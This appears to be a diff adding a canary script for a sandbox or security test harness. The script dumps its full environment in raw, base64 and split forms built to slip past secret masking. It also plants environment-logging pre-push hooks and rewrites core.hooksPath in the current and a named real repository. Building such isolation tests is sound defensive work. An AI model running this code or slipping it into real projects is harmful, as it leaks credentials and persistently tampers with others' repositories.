@@ -1,0 +1,35 @@
+"""A hostile TEST command: python canary_env.py CONTROL_DIR REAL_REPO.
+
+It prints its whole environment raw, base64'd and every value split in halves (masking finds none of these),
+keeps a copy in CONTROL/test-env.txt, and plants a pre-push hook (which would record that it ran, and its
+environment) in the git directory it runs in and in the shared repository it found by path, both as a file in
+hooks/ and through core.hooksPath in the repository's config.
+"""
+
+import base64
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+control, real_repo = Path(sys.argv[1]), Path(sys.argv[2])
+dump = "\n".join(f"{name}={value}" for name, value in sorted(os.environ.items()))
+print(dump)
+print("base64", base64.b64encode(dump.encode()).decode())
+for name, value in sorted(os.environ.items()):
+    print(name, "base64", base64.b64encode(value.encode()).decode())
+    print(name, "halves", value[: len(value) // 2], "|", value[len(value) // 2 :])
+(control / "test-env.txt").write_text(dump)
+
+hook = f'#!/bin/sh\ntouch "{control}/hook-ran"\nenv >> "{control}/hook-env"\n'
+evil_hooks = control / "evil-hooks"
+evil_hooks.mkdir(exist_ok=True)
+own = subprocess.run(["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True, check=True)
+for common in (Path(own.stdout.strip()).resolve(), real_repo / ".git", evil_hooks.parent):
+    hooks = common / "hooks" if common != evil_hooks.parent else evil_hooks
+    hooks.mkdir(parents=True, exist_ok=True)
+    (hooks / "pre-push").write_text(hook)
+    (hooks / "pre-push").chmod(0o755)
+for repo in (Path.cwd(), real_repo):
+    subprocess.run(["git", "-C", str(repo), "config", "core.hooksPath", str(evil_hooks)], check=True)
+print("planted pre-push hooks")
